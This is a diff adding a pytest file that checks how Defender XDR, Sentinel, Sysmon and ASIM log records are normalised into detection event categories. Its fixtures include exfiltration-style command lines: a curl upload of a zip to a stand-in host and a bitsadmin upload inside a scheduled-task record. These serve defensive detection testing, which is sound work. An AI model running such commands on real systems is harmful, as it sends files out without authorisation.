@@ -1,0 +1,437 @@
+"""Defender XDR's tables, as rows and streamed; Sentinel's Windows tables, Syslog and ASIM."""
+
+import pytest
+
+from .reading import Case, Json, check, events, iso, one
+
+TIME = "2026-03-12T09:14:02.123Z"
+CURL = "C:\\Windows\\System32\\curl.exe"
+CMD = "C:\\Windows\\System32\\cmd.exe"
+COMMAND = "curl.exe -T a.zip https://x.example/"
+STAMP = "2026-03-12T09:14:02.1234567Z"
+EXACT = "2026-03-12T09:14:02.123456Z"
+
+INITIATOR: Json = {
+    "InitiatingProcessFileName": "cmd.exe",
+    "InitiatingProcessFolderPath": CMD,
+    "InitiatingProcessCommandLine": "cmd.exe /c up.cmd",
+    "InitiatingProcessId": 560,
+    "InitiatingProcessAccountDomain": "corp",
+    "InitiatingProcessAccountName": "ann",
+    "InitiatingProcessParentFileName": "explorer.exe",
+}
+
+
+def hunted(action: str, **columns: object) -> Json:
+    """A row of advanced hunting, as Graph gives it."""
+    return {
+        "Timestamp": STAMP,
+        "DeviceId": "7a" * 20,
+        "DeviceName": "ws1.corp.example",
+        "ActionType": action,
+        "ReportId": 4711,
+        **INITIATOR,
+        **columns,
+    }
+
+
+def streamed(table: str, row: Json) -> Json:
+    """The same as the streaming API sends it."""
+    return {
+        "time": "2026-03-12T09:14:30Z",
+        "tenantId": "11111111-2222-3333-4444-555555555555",
+        "operationName": "Publish",
+        "category": f"AdvancedHunting-{table}",
+        "_TimeReceivedBySvc": "2026-03-12T09:14:20Z",
+        "properties": row,
+    }
+
+
+PROCESS = hunted(
+    "ProcessCreated",
+    FileName="curl.exe",
+    FolderPath=CURL,
+    ProcessCommandLine=COMMAND,
+    ProcessId=5028,
+    AccountDomain="corp",
+    AccountName="ann",
+    SHA256="ab" * 32,
+    ProcessVersionInfoOriginalFileName="curl.exe",
+)
+OUT = {"LocalIP": "10.0.0.5", "LocalPort": 50123, "RemoteIP": "203.0.113.7", "RemotePort": 443, "Protocol": "Tcp"}
+FILE = {"FileName": "a.zip", "FolderPath": "C:\\Users\\ann\\a.zip"}
+CREATION: Json = {
+    "Image": CURL,
+    "CommandLine": COMMAND,
+    "ParentImage": CMD,
+    "ParentCommandLine": "cmd.exe /c up.cmd",
+    "User": "corp\\ann",
+    "ProcessId": 5028,
+    "ParentProcessId": 560,
+    "OriginalFileName": "curl.exe",
+}
+LINUX = {"InitiatingProcessFolderPath": "/usr/bin/bash", "InitiatingProcessFileName": "bash"}
+
+TABLES: list[tuple[str, str, Json, str, str, Json]] = [
+    ("a process", "DeviceProcessEvents", PROCESS, "process_creation", "windows", CREATION),
+    (
+        "a process, whose path is the folder",
+        "DeviceProcessEvents",
+        PROCESS | {"FolderPath": "C:\\Windows\\System32", "InitiatingProcessFolderPath": "c:\\windows\\system32"},
+        "process_creation",
+        "windows",
+        {"Image": CURL, "ParentImage": "c:\\windows\\system32\\cmd.exe"},
+    ),
+    (
+        "a process of Linux",
+        "DeviceProcessEvents",
+        PROCESS | LINUX | {"FolderPath": "/usr/bin/curl", "FileName": "curl"},
+        "process_creation",
+        "linux",
+        {"Image": "/usr/bin/curl", "ParentImage": "/usr/bin/bash"},
+    ),
+    (
+        "a connection",
+        "DeviceNetworkEvents",
+        hunted("ConnectionSuccess", **OUT, RemoteUrl="x.example"),
+        "network_connection",
+        "windows",
+        {
+            "Image": CMD,
+            "DestinationIp": "203.0.113.7",
+            "DestinationPort": 443,
+            "DestinationHostname": "x.example",
+            "SourceIp": "10.0.0.5",
+            "Initiated": "true",
+            "User": "corp\\ann",
+        },
+    ),
+    (
+        "an accepted connection",
+        "DeviceNetworkEvents",
+        hunted("InboundConnectionAccepted", **OUT),
+        "network_connection",
+        "windows",
+        {"SourceIp": "203.0.113.7", "DestinationIp": "10.0.0.5", "DestinationPort": 50123, "Initiated": "false"},
+    ),
+    ("a failed connection", "DeviceNetworkEvents", hunted("ConnectionFailed", **OUT), "", "windows", {"Image": CMD}),
+    (
+        "a created file",
+        "DeviceFileEvents",
+        hunted("FileCreated", **FILE),
+        "file_event",
+        "windows",
+        {"TargetFilename": "C:\\Users\\ann\\a.zip", "Image": CMD, "CommandLine": "cmd.exe /c up.cmd"},
+    ),
+    ("a changed file", "DeviceFileEvents", hunted("FileModified", **FILE), "file_change", "windows", {}),
+    ("a deleted file", "DeviceFileEvents", hunted("FileDeleted", **FILE), "file_delete", "windows", {}),
+    (
+        "a renamed file",
+        "DeviceFileEvents",
+        hunted("FileRenamed", **FILE, PreviousFileName="a.docx", PreviousFolderPath="C:\\Users\\ann"),
+        "file_rename",
+        "windows",
+        {"TargetFilename": "C:\\Users\\ann\\a.zip", "SourceFilename": "C:\\Users\\ann\\a.docx"},
+    ),
+    (
+        "a name look-up",
+        "DeviceEvents",
+        hunted("DnsQueryResponse", AdditionalFields='{"DnsQueryString":"x.example"}'),
+        "dns_query",
+        "windows",
+        {"QueryName": "x.example"},
+    ),
+]
+DEFENDER = [
+    Case(name, row, "defender", category, product, "ws1.corp.example", EXACT, fields)
+    for name, _, row, category, product, fields in TABLES
+]
+STREAMED = [
+    Case(
+        name,
+        streamed(table, row),
+        "defender_streamed",
+        category,
+        product,
+        "ws1.corp.example",
+        EXACT,
+        fields,
+        ingest_time="2026-03-12T09:14:30Z",
+    )
+    for name, table, row, category, product, fields in TABLES
+]
+PROJECTED = [
+    Case(
+        "a process of a query that names its columns",
+        {name: PROCESS[name] for name in ("Timestamp", "DeviceName", "FileName", "FolderPath", "ProcessCommandLine")},
+        "defender",
+        "process_creation",
+        "windows",
+        "ws1.corp.example",
+        EXACT,
+        {"Image": CURL, "CommandLine": COMMAND},
+    ),
+    Case(
+        "a connection of one",
+        {"Timestamp": STAMP, "DeviceName": "ws1.corp.example", "RemoteIP": "203.0.113.7", "RemotePort": 443},
+        "defender",
+        "network_connection",
+        "windows",
+        "ws1.corp.example",
+        EXACT,
+        {"DestinationIp": "203.0.113.7", "DestinationPort": 443},
+    ),
+]
+
+
+def security(number: int, **columns: object) -> Json:
+    """A row of SecurityEvent."""
+    return {
+        "TenantId": "11111111-2222-3333-4444-555555555555",
+        "TimeGenerated": TIME,
+        "SourceSystem": "OpsManager",
+        "Computer": "WS1.corp.example",
+        "EventSourceName": "Microsoft-Windows-Security-Auditing",
+        "Channel": "Security",
+        "Level": "8",
+        "EventID": number,
+        "Activity": f"{number} - Something happened.",
+        "TimeCollected": "2026-03-12T09:14:20Z",
+        "Type": "SecurityEvent",
+        **columns,
+    }
+
+
+def windows_event(number: int, channel: str, data: str, **columns: object) -> Json:
+    """A row of WindowsEvent."""
+    return {
+        "TimeGenerated": TIME,
+        "Provider": channel.partition("/")[0],
+        "Channel": channel,
+        "Computer": "WS1.corp.example",
+        "EventLevelName": "Information",
+        "EventData": data,
+        "EventID": number,
+        "Type": "WindowsEvent",
+        **columns,
+    }
+
+
+TASK = (
+    '<?xml version="1.0"?><Task><Actions><Exec><Command>bitsadmin</Command><Arguments>/transfer exfil /upload x &gt; y'
+    "</Arguments></Exec></Actions></Task>"
+)
+ESCAPED_TASK = TASK.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+
+
+def windows(name: str, record: Json, category: str, fields: Json, **more: object) -> Case:
+    host = "WS1.corp.example"
+    return Case(name, record, "sentinel_windows", category, "windows", host, TIME, fields, **more)  # type: ignore[arg-type]
+
+
+SENTINEL = [
+    windows(
+        "4688",
+        security(
+            4688,
+            NewProcessName=CURL,
+            NewProcessId="0x13a4",
+            ProcessId="0x230",
+            Process="curl.exe",
+            CommandLine=COMMAND,
+            ParentProcessName=CMD,
+            SubjectDomainName="CORP",
+            SubjectUserName="ann",
+            Account="CORP\\ann",
+        ),
+        "process_creation",
+        {"Image": CURL, "CommandLine": COMMAND, "ParentImage": CMD, "User": "CORP\\ann", "ProcessId": 5028},
+        service="security",
+        ingest_time="2026-03-12T09:14:20Z",
+        raw={"NewProcessName": CURL, "EventID": 4688},
+    ),
+    windows(
+        "5156, whose data are XML",
+        security(
+            5156,
+            EventData='<EventData xmlns="x">\r\n<Data Name="ProcessID">5028</Data><Data Name="Application">\\device\\'
+            'harddiskvolume2\\windows\\system32\\curl.exe</Data><Data Name="Direction">%%14593</Data>'
+            '<Data Name="DestAddress">203.0.113.7</Data><Data Name="DestPort">443</Data></EventData>',
+        ),
+        "network_connection",
+        {
+            "Image": "\\device\\harddiskvolume2\\windows\\system32\\curl.exe",
+            "DestinationIp": "203.0.113.7",
+            "DestinationPort": 443,
+            "Initiated": "true",
+        },
+    ),
+    windows(
+        "4698, whose data are XML",
+        security(
+            4698,
+            EventData=f'<EventData><Data Name="TaskName">\\Collect</Data><Data Name="TaskContent">{ESCAPED_TASK}</Data>'
+            '<Data Name="SubjectUserName">ann</Data></EventData>',
+        ),
+        "",
+        {"CommandLine": "bitsadmin /transfer exfil /upload x > y", "User": "ann"},
+        service="security",
+        raw={"TaskName": "\\Collect", "TaskContent": TASK},
+    ),
+    windows(
+        "Sysmon 1 in WindowsEvent",
+        windows_event(1, "Microsoft-Windows-Sysmon/Operational", '{"Image":"C:\\\\p.exe","CommandLine":"p.exe /x"}'),
+        "process_creation",
+        {"Image": "C:\\p.exe", "CommandLine": "p.exe /x"},
+        service="sysmon",
+    ),
+    windows(
+        "Sysmon 3 in Event",
+        {
+            "TimeGenerated": TIME,
+            "Source": "Microsoft-Windows-Sysmon",
+            "EventLog": "Microsoft-Windows-Sysmon/Operational",
+            "Computer": "WS1.corp.example",
+            "EventID": 3,
+            "EventData": '<DataItem type="System.XmlData"><EventData><Data Name="Image">C:\\p.exe</Data>'
+            '<Data Name="DestinationIp">203.0.113.7</Data></EventData></DataItem>',
+        },
+        "network_connection",
+        {"Image": "C:\\p.exe", "DestinationIp": "203.0.113.7"},
+    ),
+]
+
+
+def asim(schema: str, kind: str, **columns: object) -> Json:
+    """An event in ASIM's terms."""
+    return {
+        "TimeGenerated": TIME,
+        "EventSchema": schema,
+        "EventType": kind,
+        "EventResult": "Success",
+        "EventVendor": "Microsoft",
+        "EventProduct": "Sysmon",
+        "DvcHostname": "ws1",
+        "DvcOs": "Windows",
+        **columns,
+    }
+
+
+TARGET: Json = {
+    "TargetProcessName": CURL,
+    "TargetProcessCommandLine": COMMAND,
+    "TargetProcessId": "5028",
+    "TargetUsername": "corp\\ann",
+    "ActingProcessName": CMD,
+    "ActingProcessCommandLine": "cmd.exe /c up.cmd",
+    "ActingProcessId": "560",
+}
+SESSION: Json = {
+    "SrcIpAddr": "10.0.0.5",
+    "SrcPortNumber": 50123,
+    "DstIpAddr": "203.0.113.7",
+    "DstPortNumber": 443,
+    "DstHostname": "x.example",
+    "NetworkProtocol": "TCP",
+    "NetworkDirection": "Outbound",
+    "SrcProcessName": CURL,
+}
+ASIM_CREATION = {name: value for name, value in CREATION.items() if name != "OriginalFileName"}
+
+
+def ours(name: str, record: Json, shape: str, category: str, fields: Json, host: str = "ws1") -> Case:
+    return Case(name, record, f"asim_{shape}", category, "windows", host, TIME, fields)
+
+
+ASIM = [
+    ours("a process", asim("ProcessEvent", "ProcessCreated", **TARGET), "process", "process_creation", ASIM_CREATION),
+    ours(
+        "the end of one",
+        asim("ProcessEvent", "ProcessTerminated", **TARGET),
+        "process",
+        "process_termination",
+        {"Image": CURL},
+    ),
+    ours(
+        "a session that an endpoint reports",
+        asim("NetworkSession", "EndpointNetworkSession", **SESSION, SrcHostname="ws1-alias"),
+        "endpoint_network",
+        "network_connection",
+        {"Image": CURL, "DestinationIp": "203.0.113.7", "DestinationPort": 443, "Initiated": "true"},
+    ),
+    ours(
+        "a session that a firewall reports",
+        asim("NetworkSession", "NetworkSession", **SESSION) | {"SrcHostname": "ws1", "DvcHostname": "fw1"},
+        "network",
+        "network_connection",
+        {"DestinationIp": "203.0.113.7", "SourceIp": "10.0.0.5"},
+    ),
+    ours(
+        "a session that was refused",
+        asim("NetworkSession", "NetworkSession", **SESSION) | {"DvcAction": "Deny"},
+        "network",
+        "",
+        {"DestinationIp": "203.0.113.7"},
+    ),
+    ours(
+        "a file",
+        asim("FileEvent", "FileCreated", TargetFilePath="C:\\a.zip", ActingProcessName=CURL, ActorUsername="corp\\ann"),
+        "file",
+        "file_event",
+        {"TargetFilename": "C:\\a.zip", "Image": CURL, "User": "corp\\ann"},
+    ),
+    ours(
+        "a deleted file",
+        asim("FileEvent", "FileDeleted", TargetFilePath="C:\\a.zip"),
+        "file",
+        "file_delete",
+        {"TargetFilename": "C:\\a.zip"},
+    ),
+    ours(
+        "a renamed file",
+        asim("FileEvent", "FileRenamed", TargetFilePath="C:\\b.zip", SrcFilePath="C:\\a.zip"),
+        "file",
+        "file_rename",
+        {"TargetFilename": "C:\\b.zip", "SourceFilename": "C:\\a.zip"},
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    "case", [*DEFENDER, *STREAMED, *PROJECTED, *SENTINEL, *ASIM], ids=lambda case: f"{case.shape}: {case.name}"
+)
+def test_a_record_becomes_its_event(case):
+    check(case)
+
+
+def test_the_answer_of_graph_is_unwrapped():
+    answer = {"schema": [{"name": "Timestamp", "type": "DateTime"}], "results": [PROCESS, DEFENDER[3].record]}
+    assert [event.category for event in events(answer)] == ["process_creation", "network_connection"]
+
+
+def test_a_batch_of_the_event_hub_is_unwrapped():
+    batch = {"records": [streamed("DeviceProcessEvents", PROCESS), streamed("DeviceFileEvents", DEFENDER[6].record)]}
+    assert [event.category for event in events(batch)] == ["process_creation", "file_event"]
+
+
+def test_the_tables_of_log_analytics_are_unwrapped():
+    columns = [{"name": name, "type": "string"} for name in SENTINEL[0].record]
+    answer = {"tables": [{"name": "PrimaryResult", "columns": columns, "rows": [list(SENTINEL[0].record.values())]}]}
+    (event,) = events(answer)
+    assert event.fields == one(SENTINEL[0].record).fields
+
+
+def test_two_tables_may_number_their_reports_alike():
+    """ReportId repeats: with the device and the time it is unique only within one table."""
+    assert one(PROCESS).id != one(DEFENDER[6].record).id
+
+
+def test_a_syslog_row_with_sysmon_for_linux_is_read_from_its_xml():
+    xml = (
+        '<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><EventRecordID>7</EventRecordID>'
+        '<TimeCreated SystemTime="2026-03-12T09:14:02.123Z"/><Channel>Linux-Sysmon/Operational</Channel>'
+        '<Computer>web1</Computer></System><EventData><Data Name="Image">/usr/bin/curl</Data></EventData></Event>'
+    )
+    row = {"TimeGenerated": "2026-03-12T09:15:00Z", "Computer": "web1", "Facility": "user", "SyslogMessage": xml}
+    event = one(row)
+    assert (event.product, event.category, event.host, iso(event.time)) == ("linux", "process_creation", "web1", TIME)
